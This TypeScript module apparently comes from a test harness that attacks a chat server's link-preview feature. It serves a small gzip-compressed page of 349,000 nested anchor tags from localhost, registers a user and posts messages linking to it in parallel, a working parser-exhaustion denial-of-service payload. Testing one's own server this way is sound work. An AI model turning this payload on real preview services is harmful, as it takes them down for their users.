import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { attackerAddress, type Attack } from '../attack';
import { createChannel, register, rest } from '../http';

/** A few kilobytes compressed, for which a naive parser takes minutes. */
const PAGE = gzipSync(`<title>x</title>${'<a>'.repeat(349_000)}`, { level: 9 });
const LINKS_PER_MESSAGE = 3;

export const pages: Attack = {
  what: `messages with ${LINKS_PER_MESSAGE} links to pages of 349,000 nested elements, compressed to ${PAGE.length} bytes`,
  parallel: 4,
  async prepare(url) {
    const site = createServer((_request, response) => {
      response.writeHead(200, { 'Content-Type': 'text/html', 'Content-Encoding': 'gzip' }).end(PAGE);
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    const { port } = site.address() as AddressInfo;
    const address = attackerAddress(0);
    const token = await register(url, 'previewer', address);
    const channelId = await createChannel(url, token, address);
    return (index) => {
      const links = Array.from(
        { length: LINKS_PER_MESSAGE },
        (_, each) => `http://h${each}.test:${port}/${index}`,
      );
      return rest(url, 'POST', `/api/channels/${channelId}/messages`, {
        token,
        address,
        body: { clientMessageId: `page${index}`, body: links.join(' ') },
      });
    };
  },
};
